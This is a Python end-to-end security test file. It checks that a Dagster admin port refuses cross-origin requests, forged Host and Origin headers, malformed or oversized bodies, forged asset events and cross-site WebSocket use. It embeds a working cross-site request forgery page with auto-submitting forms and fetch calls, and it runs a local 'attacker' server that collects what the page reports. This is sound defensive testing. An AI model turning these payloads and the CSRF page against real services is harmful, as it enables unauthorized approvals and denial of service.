"""Dagster's port gives no more rights than the API: other origins and callers without a role change nothing."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, unquote

import httpx
import pytest
from websockets.exceptions import InvalidHandshake
from websockets.sync.client import connect
from websockets.typing import Origin, Subprotocol

from resources.database import Database
from sisu_pipeline.console.api_client import Api
from sisu_pipeline.proof.harness.lab_stack import LabStack
from tests.e2e.browser import CHROMIUM, browser
from tests.e2e.conftest import until
from tests.e2e.test_gate import start, status

GRAPHQL_WS = Subprotocol("graphql-ws")
_EVIL = "evil.example"
_JOB = (
    '{selector: {repositoryLocationName: "sisu_pipeline", repositoryName: "__repository__", '
    'jobName: "approve_plan"}, '
    'runConfigData: "{\\"ops\\": {\\"approve_plan_op\\": {\\"config\\": {\\"run_id\\": \\"%s\\", '
    '\\"decided_by\\": \\"ceo\\"}}}}"}'
)


def mutation(run: str) -> str:
    """A launch of the job that approves a run's plan, with everything in the document itself."""
    return f"mutation {{ launchRun(executionParams: {_JOB % run}) {{ __typename }} }}"


@pytest.fixture(scope="module")
def waiting(api: Api, stack_database: Database) -> str:
    """A run that waits for approval; no attack may approve it."""
    run = start(api, "Attacked at Dagster's port", {}, ["t1"])
    until(lambda: status(api, run) == ("waiting_input", "APPROVE_PLAN"), "it waits for approval")
    until(lambda: _is_suspended(stack_database, run), "Dagster has recorded its events so far")
    return run


def _is_suspended(database: Database, run: str) -> bool:
    with database.connect() as connection:
        found = connection.execute(
            "SELECT d.status FROM dagster.runs d JOIN app.runs r ON r.dagster_run_id = d.run_id WHERE r.id = %s",
            [run],
        ).fetchone()
    return found is not None and found["status"] == "SUSPENDED"


@pytest.fixture(autouse=True)
def unharmed(request: pytest.FixtureRequest, api: Api, stack_database: Database) -> Iterator[None]:
    """No attack launches a job, forges an asset event or decides."""
    before = _traces(stack_database)
    yield
    if "waiting" in request.fixturenames:
        assert _traces(stack_database) == before
        assert status(api, request.getfixturevalue("waiting")) == ("waiting_input", "APPROVE_PLAN")


def _traces(database: Database) -> list[object]:
    with database.connect() as connection:
        jobs = connection.execute("SELECT count(*) AS n FROM dagster.runs WHERE pipeline_name = 'approve_plan'")
        events = connection.execute(
            # Decisions of other tests are reported to Dagster meanwhile.
            "SELECT count(*) AS n FROM dagster.event_logs e WHERE asset_key LIKE '%plan_approval%' AND NOT EXISTS ("
            "SELECT FROM app.plan_approvals p JOIN app.runs r ON r.id = p.run_id WHERE r.workflow_id = e.partition)"
        )
        return [jobs.fetchone(), events.fetchone()]


@pytest.mark.parametrize(
    ("method", "headers"),
    [
        ("GET", {}),
        ("GET", {"Host": f"{_EVIL}:3002", "Origin": f"http://{_EVIL}"}),
        ("POST", {"Content-Type": "application/x-www-form-urlencoded"}),
        ("POST", {"Content-Type": "text/plain"}),
        ("POST", {"Content-Type": "application/json", "Origin": f"http://{_EVIL}"}),
        ("POST", {"Content-Type": "application/json", "Origin": "null"}),
        ("POST", {"Content-Type": "application/json", "Host": f"{_EVIL}:3002"}),
        ("POST", {"Content-Type": "application/json", "Sec-Fetch-Site": "cross-site"}),
        ("POST", {"Content-Type": "application/graphql"}),
    ],
)
def test_no_mutation_in_a_url_in_a_form_or_from_another_origin(
    stack: LabStack, waiting: str, method: str, headers: dict[str, str]
) -> None:
    url = f"{stack.admin_url}/graphql?query={quote(mutation(waiting))}"
    answer = httpx.request(method, url, headers=headers, trust_env=False)
    assert answer.status_code in (400, 403, 405, 415)
    if set(headers) - {"Content-Type"}:
        body = {"query": mutation(waiting)}
        answer = httpx.post(f"{stack.admin_url}/graphql", headers=headers, json=body, trust_env=False)
        assert answer.status_code == 403


@pytest.mark.parametrize(
    "body",
    [
        *(b"not json", b"[]", b'"x"', b"null", b"5", b"\xff", b"[" * 100_000, b'[{"query": "{__typename}"}]'),
        *(b'{"query": 5}', b'{"query": "{__typename}", "variables": "x"}'),
        *(b'{"query": "{__typename}", "variables": [1]}', b'{"query": "{__typename}", "operationName": 5}'),
    ],
    ids=lambda body: repr(body[:40]),
)
def test_a_body_that_is_no_operation_is_a_400(stack: LabStack, body: bytes) -> None:
    headers = {"Content-Type": "application/json"}
    answer = httpx.post(f"{stack.admin_url}/graphql", headers=headers, content=body, trust_env=False)
    assert answer.status_code == 400
    assert "a GraphQL request is a JSON object" in answer.json()["error"]


def test_a_head_without_end_and_a_body_without_end_are_cut_off(stack: LabStack) -> None:
    port = stack.settings.admin_port
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.sendall(b"GET /server_info HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        with pytest.raises(OSError, match=r"reset|pipe"):
            for number in range(2000):
                connection.sendall(b"X-%d: %b\r\n" % (number, b"a" * 60_000))

    def chunks() -> Iterator[bytes]:
        yield b'{"query": "'
        for _ in range(64):
            yield b" " * (1024 * 1024)

    headers = {"Content-Type": "application/json"}
    try:
        answer = httpx.post(f"{stack.admin_url}/graphql", headers=headers, content=chunks(), trust_env=False)
    except httpx.WriteError:
        return  # the server has answered and closed the connection while the body was being sent
    assert (answer.status_code, answer.json()["code"]) == (413, "body_too_large")


@pytest.mark.parametrize("kind", ["materialization", "check", "observation"])
def test_nobody_forges_an_event_of_the_lineage(stack: LabStack, waiting: str, kind: str) -> None:
    url = f"{stack.admin_url}/report_asset_{kind}/plan_approval"
    for options in ({"params": {"partition": waiting}}, {"json": {"partition": waiting}}):
        assert httpx.post(url, trust_env=False, **options).status_code == 403  # type: ignore[arg-type]


def test_a_websocket_of_another_origin_is_refused(stack: LabStack, waiting: str) -> None:
    url = f"{stack.admin_url.replace('http', 'ws')}/graphql"
    for origin in (f"http://{_EVIL}", "null", stack.url):
        with pytest.raises(InvalidHandshake), connect(url, origin=Origin(origin), subprotocols=[GRAPHQL_WS]):
            pass
    with connect(url, origin=Origin(stack.admin_url), subprotocols=[GRAPHQL_WS]) as socket:
        socket.send('{"type": "start", "id": "1", "payload": {"query": "mutation { stopSensor { __typename } }"}}')
        assert "only subscriptions" in str(socket.recv(timeout=10))


class _Attacker(BaseHTTPRequestHandler):
    """A web page elsewhere that attacks this machine with whatever a page can send, and reports what came back."""

    page = ""
    reports: list[str]

    def do_GET(self) -> None:
        if self.path.startswith("/report/"):
            self.reports.append(unquote(self.path.removeprefix("/report/")))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page.encode())

    def log_message(self, *arguments: object) -> None:
        """Log nothing."""


@contextmanager
def attacker(page: str) -> Iterator[tuple[int, list[str]]]:
    """Serve the page on a loopback port; the list holds what the page reports."""
    reports: list[str] = []
    handler = type("Handler", (_Attacker,), {"page": page, "reports": reports})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield server.server_address[1], reports
    finally:
        server.shutdown()
        server.server_close()


_PAGE = """<!doctype html><body><iframe name="sink"></iframe>
<form id="f" method="post" target="sink" action="{dagster}/graphql?query={query}"></form>
<form id="g" method="post" target="sink" action="{api}/runs/{run}/approve-plan" enctype="text/plain">
<input name='{{"approvedBy":"ceo","notes":"' value='"}}'></form><script>
const report = (what) => fetch("/report/" + encodeURIComponent(what));
const image = new Image();
image.onload = () => report("image loaded");
image.onerror = () => report("image error");
image.src = "{dagster}/graphql?query={query}";
document.getElementById("f").submit();
document.getElementById("g").submit();
const body = JSON.stringify({{query: {mutation}}});
const json = {{method: "POST", headers: {{"Content-Type": "application/json"}}, body}};
const reads = [
  ["{dagster}/graphql", json],
  ["{dagster}/graphql", {{...json, headers: {{"Content-Type": "text/plain"}}}}],
  ["{dagster}/server_info", {{}}],
  ["{api}/runs", {{}}],
  ["http://{evil}:{admin}/graphql", json],
  ["http://{evil}:{admin}/server_info", {{}}],
  ["http://{evil}:{port}/runs", {{}}],
];
Promise.all(reads.map(([url, options]) => fetch(url, options).then(
  async (answer) => report("read " + answer.status + " " + url + " " + await answer.text()),
  () => report("refused " + url)))).then(() => new Promise((done) => {{
    const socket = new WebSocket("ws://127.0.0.1:{admin}/graphql", "graphql-ws");
    socket.onopen = () => {{ report("socket open"); done(); }};
    socket.onerror = () => {{ report("socket error"); done(); }};
  }})).then(() => setTimeout(() => report("done"), 0));
</script>"""


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")
def test_a_page_of_another_origin_in_a_real_browser_reads_and_changes_nothing(
    stack: LabStack, waiting: str, tmp_path: Path
) -> None:
    text = mutation(waiting)
    page = _PAGE.format(
        dagster=stack.admin_url,
        api=stack.url,
        run=waiting,
        evil=_EVIL,
        admin=stack.settings.admin_port,
        port=stack.settings.port,
        query=quote(text),
        mutation=repr(text),
    )
    rules = f"--host-resolver-rules=MAP {_EVIL} 127.0.0.1"
    with attacker(page) as (port, reports), browser(tmp_path, rules) as chromium:
        chromium.open(f"http://{_EVIL}:{port}/")
        until(
            lambda: "done" in reports and any(each.startswith("image") for each in reports),
            "the page has tried all",
        )
        assert not [each for each in reports if each.startswith(("read 2", "read 3"))]
        assert {"image error", "socket error"} <= set(reports)


@pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium")
def test_dagsters_own_pages_still_work_in_a_real_browser(stack: LabStack, tmp_path: Path) -> None:
    with browser(tmp_path) as chromium:
        chromium.open(f"{stack.admin_url}/runs")
        chromium.one("body", "Runs")
        assert not [line for line in chromium.complaints() if "Refused" in line or "403" in line]
